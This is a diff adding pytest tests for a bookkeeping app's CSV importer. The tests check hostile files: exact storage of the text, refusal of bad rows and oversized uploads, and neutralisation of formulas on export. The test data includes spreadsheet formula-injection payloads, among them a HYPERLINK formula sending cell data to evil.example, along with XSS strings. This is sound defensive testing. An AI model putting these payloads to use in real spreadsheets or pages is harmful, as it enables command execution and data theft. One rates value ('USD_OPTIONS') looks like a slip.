@@ -1,12 +1,16 @@
 """Importing a statement (tracker/io/importer.py): files that are not statements are refused, every usual
 encoding reads the same, one bad row writes nothing, rates are asked for; the driver-level insert stores
-what SQLAlchemy stores, SQLite's page cache is put back, days and times are stored as a form stores them.
+what SQLAlchemy stores, SQLite's page cache is put back, days and times are stored as a form stores them;
+each file of the corpus of bad files (tests/hostile/) is imported as listed or refused with its message.
 """
 
 from __future__ import annotations
 
 import csv
 import io
+import re
+import time
+import tracemalloc
 from pathlib import Path
 
 import pytest
@@ -14,9 +18,12 @@ from sqlalchemy import text
 from sqlmodel import Session, SQLModel, func, select
 
 from tests.databases import sqlite_only
+from tests.hostile.cases import CASES, HOSTILE, Case
 from tracker.io import importer
+from tracker.io.export import payments_csv
 from tracker.io.importer import import_rows
 from tracker.io.plan import ImportOptions, plan_import
+from tracker.io.tables_csv import export_files
 from tracker.ledger.errors import InvalidInput
 from tracker.ledger.models import Client, Expense, Payment
 from tracker.reports.month import month_summary
@@ -233,3 +240,95 @@ def test_existing_clients_are_found_ignoring_case(session: Session) -> None:
     import_rows(session=session, plan=plan_import(session, (DATA / "upwork_new.csv").read_bytes(),
                                                   ImportOptions(rates=USD)))
     assert sorted(c.name for c in session.exec(select(Client))) == ["ACME LTD", "নদী ডিজাইন"]
+
+
+# The corpus of bad files (tests/hostile/): each one imported as listed in tests/hostile/cases.py or
+# refused with its message; a refusal writes nothing. Text that spreadsheets would run as a formula is
+# stored as typed and neutralised on export.
+
+USD_OPTIONS = ImportOptions(rates=(("USD_OPTIONS", "120"),))
+
+
+def test_the_table_lists_every_file_of_the_corpus() -> None:
+    assert sorted(c.file for c in CASES) == sorted(p.name for p in HOSTILE.glob("*.csv"))
+    assert all(p.stat().st_size < 2000 for p in HOSTILE.glob("*.csv"))  # the big one is made by tests
+
+
+@pytest.mark.parametrize("case", CASES, ids=lambda c: c.file)
+def test_each_file_is_imported_or_refused_as_listed(session: Session, case: Case) -> None:
+    if case.refused:
+        with pytest.raises(InvalidInput) as refusal:
+            plan_import(session, case.data, USD_OPTIONS)
+        assert case.refused in str(refusal.value)
+        assert counted(session) == (0, 0, 0)
+        return
+    plan = plan_import(session, case.data, USD_OPTIONS)
+    assert {r.number: r.text() for r in plan.refused} == case.rows
+    if case.rows:
+        with pytest.raises(InvalidInput, match=f"Nothing was imported, because {len(case.rows)} rows"):
+            import_rows(session=session, plan=plan)
+        assert counted(session) == (0, 0, 0)
+    result = import_rows(session=session, plan=plan, skip_invalid=bool(case.rows))
+    assert (result.imported, result.duplicates, result.refused) == (case.imported, case.duplicates,
+                                                                    len(case.rows))
+
+
+def import_file(session: Session, name: str) -> None:
+    """Import a corpus file completely."""
+    import_rows(session=session, plan=plan_import(session, (HOSTILE / name).read_bytes(), USD_OPTIONS))
+
+
+@pytest.mark.parametrize(("name", "clients", "notes"), [
+    ("windows_1252.csv", ["Café Münster"], ["Café menu – week 32"]),
+    ("utf16_without_mark.csv", ["নদী ডিজাইন"], ["Logo for নদী"]),
+    ("bom_crlf_bengali.csv", ["নদী ডিজাইন"], ["Logo for নদী"]),
+    ("formula_cells.csv", ["=cmd|' /C calc'!A0", "+Acme Ltd", "-Sign Co"],
+     ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]),
+    ("html_and_script.csv", ["<script>alert(1)</script>", "[x](javascript:alert(1))"],
+     ['<img src=x onerror="alert(1)">', "![track](http://evil.example/pixel.png) **bold**"]),
+])
+def test_text_is_stored_exactly_as_the_file_has_it(session: Session, name: str, clients: list[str],
+                                                  notes: list[str]) -> None:
+    import_file(session, name)
+    assert sorted(session.exec(select(Client.name)).all()) == sorted(clients)
+    assert session.exec(select(Payment.note).order_by(Payment.id)).all() == notes
+
+
+def test_exported_formulas_cannot_run_and_read_back_as_typed(session: Session, tmp_path: Path) -> None:
+    import_file(session, "formula_cells.csv")
+    rows = list(csv.DictReader(io.StringIO(payments_csv(session).decode("utf-8-sig"))))
+    for row in rows:
+        for column in ("client", "note"):
+            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
+    assert [r["client"] for r in rows] == ["'=cmd|' /C calc'!A0", "'+Acme Ltd", "'-Sign Co"]
+    from tracker.db.engine import open_session
+
+    with open_session(f"sqlite:///{tmp_path / 'again.db'}") as again:
+        plan = plan_import(again, payments_csv(session), ImportOptions())
+        import_rows(session=again, plan=plan)
+        names = sorted(session.exec(select(Client.name)).all())
+        assert sorted(again.exec(select(Client.name)).all()) == names
+        assert again.exec(select(Payment.note)).all() == session.exec(select(Payment.note)).all()
+
+
+def test_every_exported_file_neutralises_formulas(session: Session) -> None:
+    import_file(session, "formula_cells.csv")
+    import_file(session, "html_and_script.csv")
+    for name, data in export_files(session).items():
+        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
+            risky = [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
+                     or (cell.startswith("-") and not re.fullmatch(r"-[\d.]+", cell))]
+            assert not risky, (name, risky)
+
+
+def test_a_50_mb_upload_is_refused_before_it_is_parsed(session: Session, fifty_mb: Path) -> None:
+    data = fifty_mb.read_bytes()
+    tracemalloc.start()
+    started = time.perf_counter()
+    with pytest.raises(InvalidInput, match="This file is 51 MB; files up to 25 MB can be imported"):
+        plan_import(session, data, USD_OPTIONS)
+    seconds = time.perf_counter() - started
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert seconds < 1 and peak < 1024 * 1024
+    assert counted(session) == (0, 0, 0)
